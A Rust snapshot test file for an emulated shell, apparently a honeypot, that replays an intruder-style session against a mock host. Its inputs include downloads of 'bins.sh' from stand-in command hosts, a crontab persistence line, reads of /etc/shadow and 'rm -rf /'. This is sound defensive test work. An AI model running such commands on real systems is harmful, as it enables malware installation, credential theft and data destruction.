//! Snapshots of what the emulated host prints, with a fixed persona and clock.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod shell_common;

use shell_common::{MockHost, out, shell};

async fn snap_lines(user: &str, lines: &[&str]) -> String {
    let mut sh = shell(user);
    let mut s = String::new();
    for l in lines {
        s.push_str(&sh.prompt());
        s.push_str(l);
        s.push('\n');
        s.push_str(&out(&mut sh, l).await);
    }
    s
}

#[tokio::test]
async fn login_banner_and_prompt() {
    let sh = shell("root");
    insta::assert_snapshot!("motd", format!("{}{}", sh.motd(), sh.prompt()));
}

#[tokio::test]
async fn system_information() {
    insta::assert_snapshot!(
        "system_info",
        snap_lines(
            "root",
            &[
                "uname -a",
                "id",
                "w",
                "uptime",
                "free",
                "free -h",
                "df -h",
                "nproc",
                "cat /etc/os-release",
                "cat /etc/issue",
                "cat /etc/hostname",
                "hostname -I",
                "lscpu",
                "getconf LONG_BIT",
                "last",
            ]
        )
        .await
    );
}

#[tokio::test]
async fn processes_and_network() {
    insta::assert_snapshot!(
        "procs_net",
        snap_lines(
            "root",
            &[
                "ps",
                "ps aux",
                "ifconfig",
                "ip a",
                "ip r",
                "netstat -tulpn",
                "ss -tan"
            ]
        )
        .await
    );
}

#[tokio::test]
async fn files_and_listing() {
    insta::assert_snapshot!(
        "files",
        snap_lines(
            "root",
            &[
                "ls",
                "ls -la",
                "ls /",
                "ls -l /",
                "cd /tmp; echo hi > a.txt; mkdir d; ls -la",
                "ls /bin | head -5",
                "cat /etc/passwd",
                "head -3 /proc/meminfo",
                "stat /etc/hostname",
                "rm -rf /",
                "mkdir /tmp",
                "cat /nope; rm /nope; cp; mv a",
            ]
        )
        .await
    );
}

#[tokio::test]
async fn downloads() {
    let mut sh = shell("root");
    let mut host =
        MockHost::default().serve("http://198.51.100.7/bins.sh", b"#!/bin/sh\necho hi\n");
    let mut s = String::new();
    for l in [
        "cd /tmp; wget http://198.51.100.7/bins.sh",
        "wget http://198.51.100.7/bins.sh",
        "wget http://198.51.100.7/missing",
        "wget http://cnc.example.net/404/x",
        "busybox wget http://198.51.100.7/bins.sh -O b2",
        "busybox wget http://198.51.100.7/y",
        "curl -O http://198.51.100.7/bins.sh",
        "curl http://198.51.100.7/y",
        "curl -fsSL http://198.51.100.7/404/z; echo $?",
        "ls",
    ] {
        s.push_str(&sh.prompt());
        s.push_str(l);
        s.push('\n');
        let o = sh.run(l, &mut host).await;
        s.push_str(&String::from_utf8_lossy(&o.output));
    }
    insta::assert_snapshot!("downloads", s);
}

#[tokio::test]
async fn busybox_and_misc() {
    insta::assert_snapshot!(
        "busybox_misc",
        snap_lines(
            "deploy",
            &[
                "busybox",
                "busybox ECCHI",
                "env",
                "sudo -l",
                "crontab -l",
                "echo '* * * * * /tmp/x' | crontab -; crontab -l",
                "passwd",
                "cat /etc/shadow",
                "type ls cd wget",
                "top",
                "history",
            ]
        )
        .await
    );
}
